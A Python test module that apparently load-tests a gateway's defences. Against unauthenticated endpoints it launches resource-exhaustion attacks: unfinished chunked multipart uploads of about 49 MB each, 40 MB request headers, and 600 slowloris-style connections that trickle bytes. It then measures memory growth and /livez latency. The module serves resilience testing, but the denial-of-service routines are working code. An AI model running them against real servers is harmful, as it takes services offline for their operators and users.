"""Large and unfinished requests of somebody who has not signed in."""

import socket
import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress

from attack.target import Figure, Target

MEGABYTE = 1_000_000
SENDERS, FIELDS = 8, 49
SLOW = 600
_HEAD = (
    b"POST /sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=x\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n"
)
_FIELD = b'--x\r\nContent-Disposition: form-data; name="f%d"\r\n\r\n' + b"y" * MEGABYTE + b"\r\n"


def attack(target: Target) -> Iterator[Figure]:
    yield from _unfinished_forms(target)
    yield from _large_heads(target)
    yield from _slow_heads(target)


def _unfinished_forms(target: Target) -> Iterator[Figure]:
    before = target.megabytes
    with target.watch() as times, ExitStack() as stack:
        for _ in range(SENDERS):
            connection = stack.enter_context(target.connect())
            _send(connection, _HEAD, *(_chunk(_FIELD % number) for number in range(FIELDS)))
        time.sleep(1)
        grown = target.megabytes - before
    yield Figure("H1: memory that 8 unfinished forms of 49 MB take", "MB", 333, grown, 50)
    yield Figure("H1: p99 of /livez meanwhile", "s", None, times.percentile(0.99), 0.5)


def _large_heads(target: Target) -> Iterator[Figure]:
    before = target.megabytes
    with ExitStack() as stack:
        for _ in range(4):
            connection = stack.enter_context(target.connect())
            _send(connection, b"GET / HTTP/1.1\r\nX: ", *[b"y" * MEGABYTE] * 40)
        grown = target.megabytes - before
    yield Figure("L: memory that 4 headers of 40 MB take", "MB", None, grown, 20)


def _slow_heads(target: Target) -> Iterator[Figure]:
    """Opens more connections than wait for their head at once, and sends a byte now and then."""
    with ExitStack() as stack:
        connections = [stack.enter_context(target.connect()) for _ in range(SLOW)]
        with target.watch() as times:
            for byte in b"GET / HTTP/1.1\r\n":
                for connection in connections:
                    _send(connection, bytes([byte]))
                time.sleep(0.9)
        still = sum(_is_open(connection) for connection in connections)
    yield Figure("H1: connections of 600 whose head does not end after 14 s", "", None, still, 0)
    yield Figure("H1: p99 of /livez meanwhile", "s", None, times.percentile(0.99), 0.5)


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n" % len(data) + data + b"\r\n"


def _send(connection: socket.socket, *pieces: bytes) -> None:
    """Stops when the gateway has closed the connection."""
    with suppress(OSError):
        for piece in pieces:
            connection.sendall(piece)


def _is_open(connection: socket.socket) -> bool:
    connection.settimeout(0.001)
    try:
        while connection.recv(65_536):
            pass
    except TimeoutError:
        return True
    except OSError:
        return False
    return False
